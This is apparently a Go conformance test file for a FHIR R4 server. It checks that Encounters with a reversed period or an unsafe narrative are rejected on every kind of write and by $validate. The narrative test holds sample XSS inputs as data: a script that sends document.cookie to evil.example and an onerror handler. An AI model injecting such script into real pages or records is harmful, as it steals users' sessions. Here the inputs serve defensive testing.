package conformance

import (
	"fmt"
	"net/http"
	"strings"
)

// R4's invariants (the constraints of its StructureDefinitions) hold on
// every write (issue 17): per-1 on an Encounter's period stands for them
// all, on each way a resource is written and in $validate.

func init() {
	register(
		Check{GroupREST, "rest/invariants", "an Encounter whose period starts after it ends (R4 invariant per-1) is refused with 422 naming per-1 and Encounter.period on POST, PUT, in a transaction and in a batch entry, and $validate reports per-1; the same Encounter with its period in order is accepted and valid", checkInvariantsOnWrite},
		Check{GroupREST, "rest/narrative", "a narrative with active content (script, event handler) or not the XHTML R4 allows (an HTML entity) is refused with 400 naming txt-1 and Encounter.text.div on POST, PUT, in a transaction and in a batch entry, and $validate reports it; a clean narrative is stored as sent", checkNarrativeOnWrite},
	)
}

// restReversedPeriod is an Encounter of patient whose period ends before
// it starts.
func restReversedPeriod(patient string) map[string]any {
	e := restEncounterBody(patient, restToken())
	e["period"] = map[string]any{"start": "2024-02-05T12:00:00+01:00", "end": "2024-02-01T08:00:00+01:00"}
	return e
}

// restNamesPer1 says what is missing from an OperationOutcome that should
// report per-1 on the period as an error, "" if nothing is.
func restNamesPer1(oo map[string]any, element string) string {
	return restNamesRule(oo, "per-1", element)
}

// restNamesRule says what is missing from an OperationOutcome that should
// report the rule key on element as an error, "" if nothing is.
func restNamesRule(oo map[string]any, key, element string) string {
	issues, _ := oo["issue"].([]any)
	for _, i := range issues {
		m, _ := i.(map[string]any)
		if m["severity"] != "error" || !strings.Contains(fmt.Sprint(m["diagnostics"]), key) {
			continue
		}
		if !strings.Contains(fmt.Sprint(m["expression"]), element) && !strings.Contains(fmt.Sprint(m["diagnostics"]), element) {
			return fmt.Sprintf("the %s issue does not name %s: %v", key, element, m["expression"])
		}
		return ""
	}
	return "no error issue names " + key
}

func restHasError(oo map[string]any) bool {
	issues, _ := oo["issue"].([]any)
	for _, i := range issues {
		if m, _ := i.(map[string]any); m["severity"] == "error" || m["severity"] == "fatal" {
			return true
		}
	}
	return false
}

func checkInvariantsOnWrite(t *T) {
	p, _ := t.NewPatient(PatientSpec{})
	writer := restAccessOf["Encounter"].writer

	// A valid Encounter is accepted and valid.
	good := restCreate(t, p, restEncounterBody(p, restToken()))
	id, _ := good["id"].(string)
	res := restRead(t, "Encounter", p, Request{Method: http.MethodPost, Path: "Encounter/$validate", Body: restEncounterBody(p, restToken())})
	if res.Status != http.StatusOK || res.ResourceType() != "OperationOutcome" {
		t.Errorf("POST Encounter/$validate of a valid Encounter: status %d, want 200 with an OperationOutcome: %s", res.Status, Outcome(res))
	} else if restHasError(res.JSON()) {
		t.Errorf("POST Encounter/$validate of a valid Encounter reports an error: %s", Outcome(res))
	}

	refused := func(what string, res *Response, element string) {
		if res.Status != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d, want 422: %s", what, res.Status, Outcome(res))
			return
		}
		if res.ResourceType() != "OperationOutcome" {
			t.Errorf("%s: the answer is a %q, want an OperationOutcome", what, res.ResourceType())
			return
		}
		if miss := restNamesPer1(res.JSON(), element); miss != "" {
			t.Errorf("%s: %s: %s", what, miss, Outcome(res))
		}
	}

	refused("POST Encounter with period.start after period.end",
		restWrite(t, "Encounter", p, Request{Method: http.MethodPost, Path: "Encounter", Body: restReversedPeriod(p)}), "Encounter.period")

	bad := restReversedPeriod(p)
	bad["id"] = id
	refused("PUT Encounter/"+id+" with period.start after period.end",
		restWrite(t, "Encounter", p, Request{Method: http.MethodPut, Path: "Encounter/" + id, Body: bad}), "Encounter.period")
	if got := restRead(t, "Encounter", p, Request{Path: "Encounter/" + id}); got.Status != http.StatusOK {
		t.Errorf("GET Encounter/%s after the refused PUT: status %d", id, got.Status)
	} else if per, _ := got.JSON()["period"].(map[string]any); per["start"] != "2024-02-01T08:00:00+01:00" {
		t.Errorf("the refused PUT changed Encounter/%s: period %v", id, per)
	}

	refused("a transaction creating an Encounter with period.start after period.end",
		t.Do(restScoped(t, "Encounter", restAs(Request{Method: http.MethodPost, Body: restCondBundle("transaction", restReversedPeriod(p), "Encounter")}, writer, p))),
		"Bundle.entry[0].resource.period")

	res = t.Do(restScoped(t, "Encounter", restAs(Request{Method: http.MethodPost, Body: restCondBundle("batch", restReversedPeriod(p), "Encounter")}, writer, p)))
	b := restParseBundle(t, "a batch creating an Encounter with period.start after period.end", res, "batch-response")
	if len(b.Entries) != 1 {
		t.Fatalf("batch: %d response entries, want 1", len(b.Entries))
	}
	if st := fmt.Sprint(b.Entries[0].Response["status"]); !strings.HasPrefix(st, "422") {
		t.Errorf("batch entry with period.start after period.end: status %q, want 422: %v", st, b.Entries[0].Response)
	} else if oo, _ := b.Entries[0].Response["outcome"].(map[string]any); oo == nil {
		t.Errorf("batch entry refused without an OperationOutcome: %v", b.Entries[0].Response)
	} else if miss := restNamesPer1(oo, "Bundle.entry[0].resource.period"); miss != "" {
		t.Errorf("batch entry with period.start after period.end: %s: %v", miss, oo)
	}

	res = restRead(t, "Encounter", p, Request{Method: http.MethodPost, Path: "Encounter/$validate", Body: restReversedPeriod(p)})
	if res.Status != http.StatusOK || res.ResourceType() != "OperationOutcome" {
		t.Errorf("POST Encounter/$validate of an Encounter with period.start after period.end: status %d, want 200 with an OperationOutcome: %s", res.Status, Outcome(res))
	} else if miss := restNamesPer1(res.JSON(), "Encounter.period"); miss != "" {
		t.Errorf("POST Encounter/$validate of an Encounter with period.start after period.end: %s: %s", miss, Outcome(res))
	}
}

// restWithNarrative is an Encounter of patient with div as its narrative.
func restWithNarrative(patient, div string) map[string]any {
	e := restEncounterBody(patient, restToken())
	e["text"] = map[string]any{"status": "generated", "div": div}
	return e
}

// checkNarrativeOnWrite: the narrative rules (txt-1, and R4's XHTML
// subset that keeps scripts and active content out of what a browser app
// renders) hold on every way a resource is written.
func checkNarrativeOnWrite(t *T) {
	p, _ := t.NewPatient(PatientSpec{})
	writer := restAccessOf["Encounter"].writer
	const div = `<div xmlns="http://www.w3.org/1999/xhtml">`

	clean := div + `<p><b>Innlagt</b> &lt; 24 t &amp; utskrevet</p></div>`
	good := restCreate(t, p, restWithNarrative(p, clean))
	id, _ := good["id"].(string)
	if got := restRead(t, "Encounter", p, Request{Path: "Encounter/" + id}); got.Status != http.StatusOK {
		t.Errorf("GET Encounter/%s: status %d", id, got.Status)
	} else if txt, _ := got.JSON()["text"].(map[string]any); txt["div"] != clean {
		t.Errorf("a clean narrative came back changed: %v, sent %s", txt["div"], clean)
	}

	for _, bad := range []struct{ name, div string }{
		{"a script", div + `Innlagt<script>fetch('https://evil.example/'+document.cookie)</script></div>`},
		{"an event handler", div + `<img src="x.png" onerror="alert(1)"/></div>`},
		{"an HTML entity", div + `Innlagt&nbsp;i g&aring;r</div>`},
	} {
		refused := func(what string, res *Response, element string) {
			what += " with " + bad.name + " in the narrative"
			if res.Status != http.StatusBadRequest {
				t.Errorf("%s: status %d, want 400: %s", what, res.Status, Outcome(res))
				return
			}
			if res.ResourceType() != "OperationOutcome" {
				t.Errorf("%s: the answer is a %q, want an OperationOutcome", what, res.ResourceType())
			} else if miss := restNamesRule(res.JSON(), "txt-1", element); miss != "" {
				t.Errorf("%s: %s: %s", what, miss, Outcome(res))
			}
		}
		refused("POST Encounter", restWrite(t, "Encounter", p, Request{Method: http.MethodPost, Path: "Encounter", Body: restWithNarrative(p, bad.div)}), "Encounter.text.div")

		upd := restWithNarrative(p, bad.div)
		upd["id"] = id
		refused("PUT Encounter/"+id, restWrite(t, "Encounter", p, Request{Method: http.MethodPut, Path: "Encounter/" + id, Body: upd}), "Encounter.text.div")
		if got := restRead(t, "Encounter", p, Request{Path: "Encounter/" + id}); got.Status == http.StatusOK {
			if txt, _ := got.JSON()["text"].(map[string]any); txt["div"] != clean {
				t.Errorf("the refused PUT with %s changed Encounter/%s: %v", bad.name, id, txt["div"])
			}
		}

		refused("a transaction creating an Encounter",
			t.Do(restScoped(t, "Encounter", restAs(Request{Method: http.MethodPost, Body: restCondBundle("transaction", restWithNarrative(p, bad.div), "Encounter")}, writer, p))),
			"Bundle.entry[0].resource.text.div")

		res := t.Do(restScoped(t, "Encounter", restAs(Request{Method: http.MethodPost, Body: restCondBundle("batch", restWithNarrative(p, bad.div), "Encounter")}, writer, p)))
		b := restParseBundle(t, "a batch creating an Encounter with "+bad.name+" in the narrative", res, "batch-response")
		if len(b.Entries) != 1 {
			t.Fatalf("batch: %d response entries, want 1", len(b.Entries))
		}
		if st := fmt.Sprint(b.Entries[0].Response["status"]); !strings.HasPrefix(st, "400") {
			t.Errorf("batch entry with %s in the narrative: status %q, want 400: %v", bad.name, st, b.Entries[0].Response)
		} else if oo, _ := b.Entries[0].Response["outcome"].(map[string]any); oo == nil {
			t.Errorf("batch entry refused without an OperationOutcome: %v", b.Entries[0].Response)
		} else if miss := restNamesRule(oo, "txt-1", "Bundle.entry[0].resource.text.div"); miss != "" {
			t.Errorf("batch entry with %s in the narrative: %s: %v", bad.name, miss, oo)
		}

		res = restRead(t, "Encounter", p, Request{Method: http.MethodPost, Path: "Encounter/$validate", Body: restWithNarrative(p, bad.div)})
		if res.Status != http.StatusOK || res.ResourceType() != "OperationOutcome" {
			t.Errorf("POST Encounter/$validate with %s in the narrative: status %d, want 200 with an OperationOutcome: %s", bad.name, res.Status, Outcome(res))
		} else if miss := restNamesRule(res.JSON(), "txt-1", "Encounter.text.div"); miss != "" {
			t.Errorf("POST Encounter/$validate with %s in the narrative: %s: %s", bad.name, miss, Outcome(res))
		}
	}
}
